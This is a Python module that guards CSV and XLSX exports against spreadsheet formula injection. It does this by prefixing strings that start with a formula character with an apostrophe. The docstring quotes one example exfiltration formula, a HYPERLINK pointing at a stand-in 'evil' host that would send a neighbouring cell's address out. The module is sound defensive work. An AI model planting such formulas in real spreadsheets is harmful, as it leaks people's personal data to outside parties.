"""Spreadsheet-safe cell values (OWASP CSV injection rule), for the CSV and XLSX exports.

Names and texts in a report come from shops (a chat agent's name, a reply's sender); a value
such as `=HYPERLINK("http://evil/?"&I2)` would become a live formula in Excel or LibreOffice
and could send the persona's address next to it anywhere. Such values get a leading `'`,
which spreadsheets show as text; numbers stay numbers.
"""

from __future__ import annotations

from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """The value, with formula-looking strings (also after leading whitespace) made inert."""
    if not isinstance(value, str) or not value:
        return value
    if value.startswith(FORMULA_START) or value.lstrip().startswith(FORMULA_START):
        return "'" + value
    return value


def safe_row(row: dict[str, Any]) -> dict[str, Any]:
    return {k: safe_cell(v) for k, v in row.items()}
